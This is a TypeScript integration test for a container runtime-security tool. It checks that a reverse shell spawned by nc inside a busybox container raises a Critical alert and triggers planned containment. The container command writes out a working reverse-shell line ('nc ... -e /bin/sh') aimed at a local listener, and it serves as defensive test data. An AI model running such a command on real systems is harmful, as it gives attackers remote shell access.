/**
 * A reverse shell on the real dockerd and bpftrace: in a busybox container, `nc` connects to a
 * listener and executes /bin/sh in its own process. The alert names nc as the shell's parent, is
 * Critical (command and control), and the default policy plans containment of that container.
 */
import { mkdtempSync, rmSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { describe, expect, it } from 'vitest';
import { Engine } from '../../src/engine/engine.js';
import { RuntimeDetector } from '../../src/detect/runtime/detector.js';
import type { ActionRecord } from '../../src/model/action.js';
import type { Alert } from '../../src/model/alert.js';
import { openStore } from '../../src/infra/db.js';
import { DockerContainerCatalogue, DockerSource } from '../../src/sources/docker.js';
import { BpftraceSensor } from '../../src/sources/bpftrace/sensor.js';
import { ensureTestbedImage } from '../../src/testbed/image.js';
import {
  bpftraceAvailable,
  discardedOutput,
  docker,
  dockerAvailable,
  removeContainer,
  waitFor,
} from '../utils/live.js';

const hasDocker = await dockerAvailable();
const hasBpf = hasDocker && bpftraceAvailable();

describe.skipIf(!hasBpf)('reverse shell on real Docker and bpftrace', () => {
  it('names nc as the parent, is Critical, and gets containment planned', async () => {
    const tmp = mkdtempSync(join(tmpdir(), 'vigie-live-revsh-'));
    const db = openStore(join(tmp, 'vigie.db'));
    const image = await ensureTestbedImage(docker);
    const containers = new DockerContainerCatalogue(docker);
    const alerts: Alert[] = [];
    const actions: ActionRecord[] = [];
    const engine = new Engine({
      db,
      hostname: 'h',
      output: discardedOutput(),
      mode: 'monitor',
      sources: [
        new DockerSource({ hostname: 'h', containers, stats: false }),
        new BpftraceSensor({ hostname: 'h', containers, syscalls: false }),
      ],
      detectors: [new RuntimeDetector()],
      onAlert: (a) => alerts.push(a),
      onAction: (r) => actions.push(r),
    });
    let id: string | undefined;
    try {
      await engine.start();
      const c = await docker.createContainer({
        Image: image,
        name: `vigie-live-revsh-${process.pid}-${Date.now()}`,
        // A listener, then nc connecting to it and handing it a shell (`-e`: exec in place).
        Cmd: [
          'sh',
          '-c',
          'sleep 2; nc -l -p 4444 </dev/null >/dev/null & sleep 1; nc 127.0.0.1 4444 -e /bin/sh; sleep 60',
        ],
        Labels: { 'vigie.test': 'live' },
      });
      id = c.id;
      await c.start();
      const mine = () => alerts.filter((a) => a.vigie.entities.container?.id === id);
      const shell = await waitFor(
        () =>
          mine().find(
            (a) => a.rule === 'Shell spawned in container' && a.output_fields['proc.pname'] === 'nc',
          ),
        30_000,
        'the reverse shell alert',
      ).catch((err: Error) => {
        throw new Error(
          `${err.message}; alerts on the container: ${JSON.stringify(mine().map((a) => a.output))}`,
        );
      });
      expect(shell.output).toMatch(/spawned by nc/);
      expect(shell.priority).toBe('Critical');
      expect(shell.vigie.mitre.map((m) => m.tactic)).toContain('Command and Control');
      const planned = await waitFor(
        () =>
          actions.find(
            (r) =>
              r.alert === shell.uuid &&
              r.target.id === id &&
              ['throttle', 'isolate', 'pause'].includes(r.action) &&
              r.status === 'planned',
          ),
        15_000,
        'containment planned for the reverse shell',
      );
      expect(planned.mode).toBe('monitor');
    } finally {
      await engine.stop();
      await removeContainer(id);
      db.close();
      rmSync(tmp, { recursive: true, force: true });
    }
  }, 60_000);
});
